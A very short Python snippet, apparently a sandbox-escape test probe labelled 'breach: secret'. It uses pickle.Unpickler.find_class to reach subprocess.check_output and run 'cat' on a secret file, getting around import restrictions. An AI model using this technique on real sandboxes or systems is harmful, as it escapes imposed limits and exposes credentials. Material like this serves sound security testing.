# An unpickler's find_class answers any module's function.
# breach: secret
import io, pickle
find = pickle.Unpickler(io.BytesIO()).find_class
find("subprocess", "check_output")(["cat", SECRET_FILE])
